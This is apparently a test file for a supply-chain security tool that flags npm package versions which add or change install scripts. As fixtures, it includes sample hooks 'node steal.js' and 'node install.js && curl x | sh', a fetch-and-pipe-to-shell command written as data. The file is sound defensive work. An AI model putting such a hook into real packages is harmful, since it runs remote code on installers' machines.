import { installScriptAdded, installScriptChanged } from '../../src/signals/install-script.js';
import { change, daysAgo, hoursAgo, input, packument, ver } from './builders.js';

const POST = { scripts: { postinstall: 'node install.js' } };

describe('install-script-added', () => {
  it('fires (high) when the new version adds a postinstall the base version did not have, and shows the text', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(60)), ver('1.0.1', daysAgo(3), { scripts: { postinstall: 'node steal.js' } })]);
    const [f, ...rest] = installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p));
    expect(rest).toHaveLength(0);
    expect(f?.severity).toBe('high');
    expect(f?.message).toContain('pkg@1.0.1');
    expect(f?.message).toContain('pkg@1.0.0');
    expect(f?.evidence['scripts']).toEqual({ postinstall: 'node steal.js' });
    expect(f?.evidence['previousVersion']).toBe('1.0.0');
  });

  it('treats gypfile: true as an implicit node-gyp rebuild install script', () => {
    const p = packument('native', [ver('2.0.0', daysAgo(60)), ver('2.1.0', daysAgo(3), { gypfile: true })]);
    const [f] = installScriptAdded.run(input(change({ name: 'native', from: '2.0.0', to: '2.1.0' }), p));
    expect(f?.evidence['scripts']).toEqual({ install: 'node-gyp rebuild' });
    expect(f?.evidence['implicitNodeGyp']).toBe(true);
  });

  it('does not invent node-gyp when the package has its own install or preinstall', () => {
    const p = packument('native', [
      ver('2.0.0', daysAgo(60), { gypfile: true, scripts: { install: 'prebuild-install || node-gyp rebuild' } }),
      ver('2.1.0', daysAgo(3), { gypfile: true, scripts: { install: 'prebuild-install || node-gyp rebuild' } }),
    ]);
    expect(installScriptAdded.run(input(change({ name: 'native', from: '2.0.0', to: '2.1.0' }), p))).toEqual([]);
  });

  it('stays quiet when the script was already there (esbuild-like)', () => {
    const p = packument('esbuild', [ver('0.20.0', daysAgo(60), POST), ver('0.20.1', daysAgo(3), POST)]);
    expect(installScriptAdded.run(input(change({ name: 'esbuild', from: '0.20.0', to: '0.20.1' }), p))).toEqual([]);
  });

  it('ignores prepare (it does not run for registry installs) and empty scripts', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(60)), ver('1.0.1', daysAgo(3), { scripts: { prepare: 'tsc', postinstall: '  ' } })]);
    expect(installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p))).toEqual([]);
  });

  it('compares a new package with its previous release in time', () => {
    const p = packument('helper', [ver('4.2.0', hoursAgo(30)), ver('4.2.1', hoursAgo(10), { scripts: { postinstall: 'node setup.js' } })]);
    const [f] = installScriptAdded.run(input(change({ name: 'helper', to: '4.2.1' }), p));
    expect(f?.severity).toBe('high');
    expect(f?.evidence['previousVersion']).toBe('4.2.0');
    expect(f?.evidence['previousIsBase']).toBe(false);
  });

  it('an old package whose first and only release has an install script is medium; a young one is high', () => {
    const old = packument('old', [ver('1.0.0', daysAgo(900), POST)]);
    expect(installScriptAdded.run(input(change({ name: 'old', to: '1.0.0' }), old))[0]?.severity).toBe('medium');
    const young = packument('young', [ver('1.0.0', hoursAgo(5), POST)]);
    expect(installScriptAdded.run(input(change({ name: 'young', to: '1.0.0' }), young))[0]?.severity).toBe('high');
  });

  it('is medium, not high, when the upgrade skips over a release that added the script weeks ago', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(300)), ver('2.0.0', daysAgo(200), POST), ver('2.1.0', daysAgo(2), POST)]);
    const [f] = installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '2.1.0' }), p));
    expect(f?.severity).toBe('medium');
    expect(f?.evidence['scriptsSince']).toBe('2.0.0');
    expect(f?.evidence['established']).toBe(true);
  });

  it('stays high when the release that added the script is itself only days old', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(300)), ver('1.0.1', daysAgo(2), POST), ver('1.0.2', daysAgo(1), POST)]);
    const [f] = installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.2' }), p));
    expect(f?.severity).toBe('high');
    expect(f?.evidence['scriptsSince']).toBe('1.0.1');
  });

  it('truncates long script text with a note', () => {
    const long = `node -e "${'x'.repeat(5000)}"`;
    const p = packument('pkg', [ver('1.0.0', daysAgo(60)), ver('1.0.1', daysAgo(3), { scripts: { preinstall: long } })]);
    const [f] = installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p));
    const shown = (f!.evidence['scripts'] as Record<string, string>)['preinstall'] as string;
    expect(shown.length).toBeLessThan(2200);
    expect(shown).toMatch(/truncated/);
    expect(f?.evidence['scriptsTruncated']).toBe(true);
  });

  it('never looks at removed packages', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(60), POST)]);
    expect(installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: null }), p))).toEqual([]);
  });

  describe('offline (lockfile hasInstallScript)', () => {
    it('fires high when head has the flag and base did not', () => {
      const c = change({ name: 'pkg', from: '1.0.0', to: '1.0.1', headFlags: { hasInstallScript: true } });
      const [f] = installScriptAdded.run(input(c, null));
      expect(f?.severity).toBe('high');
      expect(f?.evidence['scriptTextKnown']).toBe(false);
    });
    it('fires medium for a new package that has the flag', () => {
      const c = change({ name: 'pkg', to: '1.0.0', headFlags: { hasInstallScript: true } });
      expect(installScriptAdded.run(input(c, null))[0]?.severity).toBe('medium');
    });
    it('stays quiet when base had the flag too, or head does not have it', () => {
      const both = change({ name: 'pkg', from: '1.0.0', to: '1.0.1', baseFlags: { hasInstallScript: true }, headFlags: { hasInstallScript: true } });
      expect(installScriptAdded.run(input(both, null))).toEqual([]);
      expect(installScriptAdded.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), null))).toEqual([]);
    });
    it('without publish times, compares the registry document in version order, never the lockfile flag', () => {
      const p = packument('pkg', [ver('1.0.0', undefined), ver('1.0.1', undefined, { hasInstallScript: true })], { abbreviated: true });
      const [f] = installScriptAdded.run(input(change({ name: 'pkg', to: '1.0.1' }), p));
      expect(f?.severity).toBe('high');
      expect(f?.evidence['previousVersion']).toBe('1.0.0');
      // the lockfile's flag alone does not decide when the registry says there is no install script
      const quiet = packument('pkg', [ver('1.0.0', undefined), ver('1.0.1', undefined)], { abbreviated: true });
      expect(installScriptAdded.run(input(change({ name: 'pkg', to: '1.0.1', headFlags: { hasInstallScript: true } }), quiet))).toEqual([]);
    });
  });
});

describe('install-script-changed', () => {
  it('fires (medium) with before and after when the text differs', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(60), POST), ver('1.0.1', daysAgo(3), { scripts: { postinstall: 'node install.js && curl x | sh' } })]);
    const [f] = installScriptChanged.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p));
    expect(f?.severity).toBe('medium');
    expect(f?.evidence['changedHooks']).toEqual(['postinstall']);
    expect(f?.evidence['before']).toEqual({ postinstall: 'node install.js' });
    expect(f?.evidence['after']).toEqual({ postinstall: 'node install.js && curl x | sh' });
  });

  it('reports a hook added next to an existing one as a change', () => {
    const p = packument('pkg', [
      ver('1.0.0', daysAgo(60), POST),
      ver('1.0.1', daysAgo(3), { scripts: { postinstall: 'node install.js', preinstall: 'node pre.js' } }),
    ]);
    const [f] = installScriptChanged.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p));
    expect(f?.evidence['before']).toEqual({ preinstall: null });
    expect(f?.evidence['after']).toEqual({ preinstall: 'node pre.js' });
  });

  it('stays quiet for identical scripts, and when either side has none (that is install-script-added)', () => {
    const same = packument('pkg', [ver('1.0.0', daysAgo(60), POST), ver('1.0.1', daysAgo(3), POST)]);
    expect(installScriptChanged.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), same))).toEqual([]);
    const added = packument('pkg', [ver('1.0.0', daysAgo(60)), ver('1.0.1', daysAgo(3), POST)]);
    expect(installScriptChanged.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), added))).toEqual([]);
  });

  it('does not compare when only the abbreviated flag is known', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(60), { hasInstallScript: true }), ver('1.0.1', daysAgo(3), POST)]);
    expect(installScriptChanged.run(input(change({ name: 'pkg', from: '1.0.0', to: '1.0.1' }), p))).toEqual([]);
  });
});
